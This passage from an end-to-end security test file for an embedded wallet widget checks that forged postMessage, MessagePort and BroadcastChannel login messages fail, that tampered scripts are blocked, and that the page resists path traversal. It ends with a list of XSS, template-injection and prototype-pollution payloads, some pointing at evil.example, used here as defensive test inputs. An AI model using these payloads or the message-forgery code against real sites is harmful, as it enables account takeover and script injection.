        (window as unknown as Host).wallet
          .request(name as string, payload)
          .catch((error: { code: string }) => error.code),
      [name, payload] as const,
    )
}

test("a provider's window logs in: it has no hold on the page that opened it, and only the wallet’s own poll ends it (T20, T52, T53)", () =>
  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
    const ask = askerOf(page)
    await showWallet(page)
    const { uri, flow } = (await ask('GET_SOCIAL_REDIRECT_URI', { provider: 'google' })) as {
      readonly uri: string
      readonly flow: string
    }
    const opening = page.context().waitForEvent('page')
    await page.evaluate(uri => void window.open(uri, '_blank', 'popup,width=600,height=800'), uri)
    const popup = await opening
    const ann = popup.getByRole('button', { name: 'ann@mail.example' })
    await ann.waitFor()
    expect(await popup.evaluate(() => window.opener)).toBe(null)
    const over = ask('CONNECT_SOCIAL', { flow })
    const closed = popup.waitForEvent('close')
    await ann.click()
    await closed
    expect(await over).toMatchObject({ needsRecovery: true, authProvider: 'google', userName: 'Ann' })
    const shown = ask('SHOW_SCREEN', { screen: 'RECOVERY' })
    await page.frameLocator('#w3m-iframe').getByRole('button', { name: 'Later' }).waitFor()
    await ask('HIDE_SCREEN')
    expect(await shown).toEqual({ result: 'closed' })
    await ask('SIGN_OUT')
    expect(await ask('CONNECT_SOCIAL', { flow })).toBe('LOGIN_ENDED')
    expect(await ask('GET_SOCIAL_REDIRECT_URI', { provider: 'github' })).toBe('SOCIAL_FAILED')
  }))

test('T53: no message logs a visitor in, whatever its sender and target', () =>
  visit(world.origin('host'), async page => {
    // The page's own end of the port as well, which only the widget holds.
    await page.evaluate(() => {
      const { postMessage } = MessagePort.prototype
      MessagePort.prototype.postMessage = function (...sent: unknown[]) {
        Object.assign(window, { port: this })
        return Reflect.apply(postMessage, this, sent)
      }
    })
    await openWallet(page)
    const ask = askerOf(page)
    const begun = (await ask('GET_SOCIAL_REDIRECT_URI', { provider: 'google' })) as { readonly flow: string }
    const over = ask('CONNECT_SOCIAL', { flow: begun.flow })
    const opening = page.context().waitForEvent('page')
    await page.evaluate(evil => void window.open(evil, '_blank'), world.origin('evil'))
    const popup = await opening
    await popup.waitForLoadState()
    const forge = ({ flow, host, wallet }: Readonly<Record<'flow' | 'host' | 'wallet', string>>) => {
      const scope = window as unknown as { readonly port?: MessagePort }
      const user = {
        address: `0x${'1'.repeat(40)}`,
        chainId: 'eip155:1',
        accounts: [],
        email: 'eve@mail.example',
      }
      const payload = { ...user, flow, state: 'done', isConnected: true }
      const names = ['CONNECT_SOCIAL_SUCCESS', 'CONNECT_FARCASTER_SUCCESS', 'SESSION', 'GET_USER_SUCCESS']
      const said = names.map(name => ({ type: `@latchkey-frame/${name}`, id: crypto.randomUUID(), payload }))
      const page = (opener ?? window) as Window
      const tabs = new BroadcastChannel('latchkey login')
      for (const message of [...said, { result_uri: flow, ...payload }, true]) {
        page.postMessage(message, host)
        page.frames[0]?.postMessage(message, wallet, [new MessageChannel().port1])
        scope.port?.postMessage(message)
        tabs.postMessage(message)
      }
      return scope.port !== undefined
    }
    const forged = { flow: begun.flow, host: world.origin('host'), wallet: world.wallet }
    expect([await page.evaluate(forge, forged), await popup.evaluate(forge, forged)]).toEqual([true, false])
    // After all of it, on the same port.
    expect(await ask('IS_CONNECTED')).toEqual({ isConnected: false })
    expect(await page.evaluate(() => (window as unknown as Host).told)).toEqual([])
    // Another tab of the wallet's own is believed no more than to be asked about.
    await walletFrame(page).evaluate(() => new BroadcastChannel('latchkey login').postMessage(true))
    expect([await ask('GET_USER'), await ask('IS_CONNECTED')]).toEqual([
      'NOT_EMBEDDED',
      { isConnected: false },
    ])
    // It was still waited for what the services say.
    await ask('CONNECT_ABORT')
    expect(await over).toBe('RPC_ABORTED')
  }))

test.each(['its first script', 'what that imports'] as const)(
  'T83: does not run with one byte more in %s',
  which =>
    visit(world.origin('host'), async page => {
      const said: string[] = []
      page.on('console', message => said.push(message.text()))
      let changed = 0
      await page.route('**/v1/assets/*.js', async route => {
        const url = route.request().url()
        const isFirst = /\/index-[^/]+\.js$/.test(url)
        // Only browsers take names under localhost for this machine.
        const response = await route.fetch({ url: url.replace('keys.localhost', '127.0.0.1') })
        if (isFirst !== (which === 'its first script')) return route.fulfill({ response })
        changed++
        await route.fulfill({ response, body: `${await response.text()} ` })
      })
      await page.goto(`${world.wallet}/v1/?projectId=shop`)
      await expect.poll(() => said.join(' ')).toMatch(/integrity|digest/)
      expect(changed).toBeGreaterThan(0)
      // What it says by itself when it runs.
      expect(await page.locator('[role=alert]').count()).toBe(0)
    }),
)

test('opened by itself, it shows what it is', async () => {
  await visit(world.origin('host'), async page => {
    await page.goto(`${world.wallet}/v1/?projectId=shop`)
    expect(await page.locator('[role=alert]').textContent()).toMatch(/keeps your wallet/)
    const statuses = await page.evaluate(async () => {
      const paths = ['/', '/v1', '/v1/assets/', '/v1/assets/..%2f..%2fpackage.json', '/v2/', '/v1/index.html']
      return Promise.all(paths.map(async path => (await fetch(path).catch(() => undefined))?.status))
    })
    // Its own policy lets it ask the services alone.
    expect(new Set(statuses)).toEqual(new Set([undefined]))
  })
})

const hostileTexts = [
  '<script>window.pwned=true</script>',
  '<img src=x onerror="window.pwned=true">',
  '<svg onload="window.pwned=true">',
  '"><script>window.pwned=true</script>',
  "'><img src=x onerror=window.pwned=true>",
  'javascript:window.pwned=true',
  'JaVaScRiPt:window.pwned=true',
  'java\nscript:window.pwned=true',
  'data:text/html,<script>window.pwned=true</script>',
  'data:image/svg+xml,<svg onload="window.pwned=true" xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:window.pwned=true',
  '$' + '{window.pwned=true}',
  '{{constructor.constructor("window.pwned=true")()}}',
  '</style><script>window.pwned=true</script>',
  '</title><script>window.pwned=true</script>',
  '</textarea><script>window.pwned=true</script>',
  '<iframe srcdoc="<script>parent.pwned=true</script>">',
  '<object data="javascript:window.pwned=true">',
  '<embed src="javascript:window.pwned=true">',
  '<a href="javascript:window.pwned=true" autofocus onfocus="window.pwned=true">',
  '<details open ontoggle="window.pwned=true">',
  '<video><source onerror="window.pwned=true"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=true">',
  '<template><script>window.pwned=true</script></template>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=true">',
  '<form action="javascript:window.pwned=true"><button autofocus>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  'expression(window.pwned=true)',
  'url("javascript:window.pwned=true")',
  '";}*{background:url(https://evil.example/x)}',
  '\\3c script\\3e window.pwned=true',
  '\u202e>tpircs<',
  '\u0000<script>window.pwned=true</script>',
  '%3Cscript%3Ewindow.pwned=true%3C/script%3E',
  '&lt;script&gt;window.pwned=true&lt;/script&gt;',
  '&#60;img src=x onerror=window.pwned=true&#62;',
  'import("data:text/javascript,window.pwned=true")',
  '__proto__',
  'constructor.prototype.pwned',
]
